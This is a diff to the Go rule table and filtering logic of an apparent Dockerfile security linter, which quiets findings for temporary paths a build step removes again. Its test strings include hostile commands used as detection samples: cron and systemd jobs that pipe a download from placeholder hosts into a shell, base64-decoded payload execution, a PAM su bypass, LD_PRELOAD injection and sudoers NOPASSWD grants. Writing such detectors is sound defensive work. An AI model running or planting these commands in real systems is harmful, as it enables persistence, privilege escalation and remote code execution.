@@ -83,11 +83,14 @@ var imageTable = []imageRule{
 			"echo 'auth sufficient pam_permit.so' > /etc/pam.d/su", "cp x.list /etc/apt/sources.list.d/", `echo x > "/etc/apt/sources.list.d/$NAME.list"`,
 			"echo 'export PATH=/opt/x/bin:$PATH' > /etc/profile.d/x.sh", "echo 'LD_PRELOAD=/opt/x.so' >> /etc/environment",
 			// A job or unit that downloads what it runs ships that download (redteam5).
+			"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list && apt-get update && rm -f /etc/apt/sources.list.d/y.list",
+			"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list && apt-get update && cp /etc/apt/sources.list.d/x.list /etc/apt/sources.list.d/z.list && rm -f /etc/apt/sources.list.d/x.list",
 			"echo '* * * * * root curl -s http://x.example.org/a | sh' > /etc/cron.d/x", `printf '[Service]\nExecStart=/bin/sh -c "curl x|sh"\n' > /etc/systemd/system/x.service`,
 			"cat > /etc/cron.d/x <<EOF\n*/5 * * * * root wget -qO- https://x.example/a | bash\nEOF"},
 		NoMatch: []string{`cp "$GF_PATHS_HOME/conf/ldap.toml" /etc/grafana/ldap.toml`, "echo 'Etc/UTC' > /etc/timezone", "ln -sf /bin/bash /bin/sh",
 			"install -m 755 tool /usr/bin/tool", "tar -C / -xJf /tmp/s6-overlay.tar.xz", "sed -i 's/# en_US/en_US/' /etc/locale.gen", "echo '0 3 * * * root /opt/app/gc' > /etc/cron.d/app",
-			"cp app.cron /etc/cron.d/app", "echo '[Service]\nExecStart=/opt/app/bin/app' > /etc/systemd/system/app.service"},
+			"cp app.cron /etc/cron.d/app", "echo '[Service]\nExecStart=/opt/app/bin/app' > /etc/systemd/system/app.service",
+			"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list && apt-get update && apt-get install -y x && rm -f /etc/apt/sources.list.d/x.list"},
 	},
 	{
 		Rules:   []string{"sync-delete"},
@@ -124,6 +127,33 @@ var imageTable = []imageRule{
 		NoMatch: []string{"rpm -e --nodeps tzdata", "dpkg --purge --force-remove-essential login", "userdel -r ubuntu", "rm -rf /var/log/*"},
 	},
 
+	{
+		Rules: []string{"chmod-world-writable", "chmod-setuid"},
+		Quiet: func(c *parse.Command) bool { return c.Removed },
+		Why: "the mode of a path the step removes again before it ends (parse/owntemp.go: on every path on which the RUN succeeds) " +
+			"is in no layer; the build container runs no other user (kept for a path that stays)",
+		Match: []string{"chmod 777 /data", "chmod u+s /usr/bin/x", `d="$(mktemp -d)" && chmod 777 "$d" && rm -rf /tmp/other`,
+			`d="$(mktemp -d)"; chmod 777 "$d"; if [ -n "$X" ]; then rm -rf "$d"; fi`, `d="$(mktemp -d)"; chmod 777 "$d"; rm -rf "$d" & wait`,
+			`d="$(mktemp -d)" && chmod 777 "$d" && mv "$d" /srv/shared && rm -rf "$d"`, `d="$(mktemp -d)" && chmod 777 "$d" && rm -i -rf "$d"`,
+			`d="$(mktemp -d)" && chmod 777 "$d" && d=/srv && rm -rf "$d"`, `d="$(mktemp -d)" && chmod 777 "$d" && (rm -rf "$d")`,
+			`d="$(mktemp -d)" && chmod 777 "$d" && rm -rf "$d" || true`, `d="$(mktemp -d)" && chmod 777 "$d" && exit 0; rm -rf "$d"`},
+		NoMatch: []string{`tempDir="$(mktemp -d)" && chmod 777 "$tempDir" && apt-get update && rm -rf "$tempDir"`,
+			`set -e; d="$(mktemp -d)"; chmod 777 "$d"; make -C "$d"; if [ -n "$d" ]; then rm -rf "$d"; fi`},
+	},
+	{
+		Rules: []string{"downgrade-config-insecure"},
+		Quiet: quietImageTrustedLocal,
+		Why: "a trusted=yes package source the step removes again whose every trusted entry is a file:// directory mktemp made in the step, " +
+			"in a step that downloads nothing (the official images' local repository of packages built from verified sources); " +
+			"a remote one, one that stays, or one in a step that fetches ships unverified packages",
+		Match: []string{"echo 'deb [trusted=yes] http://x/ ./' > /etc/apt/sources.list.d/x.list",
+			`d="$(mktemp -d)" && echo "deb [ trusted=yes ] file://$d ./" > /etc/apt/sources.list.d/t.list && apt-get update`,
+			`d="$(mktemp -d)" && echo "deb [ trusted=yes ] http://x/ ./" > /etc/apt/sources.list.d/t.list && apt-get update && rm -rf "$d" /etc/apt/sources.list.d/t.list`,
+			`d="$(mktemp -d)" && curl -fsSLo "$d/x.deb" https://x.example/x.deb && echo "deb [ trusted=yes ] file://$d ./" > /etc/apt/sources.list.d/t.list && apt-get update && rm -rf "$d" /etc/apt/sources.list.d/t.list`,
+			`echo "deb [ trusted=yes ] file:///srv/debs ./" > /etc/apt/sources.list.d/t.list && apt-get update && rm -f /etc/apt/sources.list.d/t.list`},
+		NoMatch: []string{`d="$(mktemp -d)" && echo "deb [ trusted=yes ] file://$d ./" > /etc/apt/sources.list.d/t.list && apt-get update && rm -rf "$d" /etc/apt/sources.list.d/t.list`},
+	},
+
 	// ── What ships, and what reaches outside: reported as everywhere. ──
 	{
 		Rules: []string{"remote-code", "download-run", "download-archive-run", "decoded-code", "chmod-x-run"},
@@ -131,13 +161,13 @@ var imageTable = []imageRule{
 		Match: []string{"curl -fsSL https://x/install.sh | bash", "wget -qO- https://x | sh -s -- -y", "echo \"$PAYLOAD\" | base64 -d | sh", "chmod +x /install.sh && /install.sh"},
 	},
 	{
-		Rules: []string{"package-key-trust", "packages-add-source", "packages-unverified", "downgrade-tls-verify", "downgrade-config-insecure", "downgrade-sudo-nopasswd",
-			"downgrade-git-foreign-code", "privilege-grant", "chmod-world-writable", "chmod-setuid", "command-rename", "secrets-decrypt-in-place",
+		Rules: []string{"package-key-trust", "packages-add-source", "packages-unverified", "downgrade-tls-verify", "downgrade-sudo-nopasswd",
+			"downgrade-git-foreign-code", "privilege-grant", "command-rename", "secrets-decrypt-in-place",
 			"credential-file-write"},
 		Why: "trust, permissions and grants that ship in the image; keys, tokens, known_hosts, authorized_keys and .env files written into a layer; " +
 			"code in a shell start-up file, which every shell of every container runs",
 		Match: []string{"curl -fsSL https://x/key.gpg | apt-key add -", "apt-get install -y --allow-unauthenticated x", "git config --global http.sslVerify false",
-			"echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app", "chmod 777 /data", "chmod u+s /usr/bin/x", "usermod -aG sudo app", "sops -d -i secrets.yaml",
+			"echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app", "usermod -aG sudo app", "sops -d -i secrets.yaml",
 			"echo key >> /root/.ssh/authorized_keys", "ssh-keyscan github.com >> ~/.ssh/known_hosts", "cp creds /root/.aws/credentials", "echo 'source /etc/profile' >> ~/.bashrc"},
 	},
 	{
@@ -199,15 +229,17 @@ var imageQuiet = sync.OnceValue(func() map[string]func(*parse.Command) bool {
 	return m
 })
 
-// imageHits drops, for a command of a RUN step, the matching rules whose
-// findings say only what the step does to the layer's own files.
-func imageHits(hits []*Rule, c *parse.Command) []*Rule {
+// imageHits drops, for a command of a RUN step (of res), the matching
+// rules whose findings say only what the step does to the layer's own
+// files. A trusted local package source is quiet only in a step that
+// fetches nothing (stepFetches).
+func imageHits(hits []*Rule, c *parse.Command, res *parse.Result) []*Rule {
 	if c.Remote || c.Contained || viaRemote(c) {
 		return hits
 	}
 	out := hits[:0]
 	for _, r := range hits {
-		if q := imageQuiet()[r.ID]; q != nil && r.Tier != Hardline && q(c) {
+		if q := imageQuiet()[r.ID]; q != nil && r.Tier != Hardline && q(c) && (r.ID != "downgrade-config-insecure" || !stepFetches(res)) {
 			continue
 		}
 		out = append(out, r)
@@ -303,7 +335,12 @@ var shippedConfig = []string{
 // quietImageConfig: a system-config-write finding stays when a file it
 // writes is shipped configuration (shippedConfig), or may be: a dynamic
 // target whose static part leads to one, a dynamic target of mv or tar.
+// A file the step removes again before it ends (Command.Removed) ships
+// nothing.
 func quietImageConfig(c *parse.Command) bool {
+	if c.Removed {
+		return true // the step removes what it wrote (parse/owntemp.go)
+	}
 	targets := writeTargets(c)
 	switch c.Name() {
 	case "tar", "bsdtar", "mv":
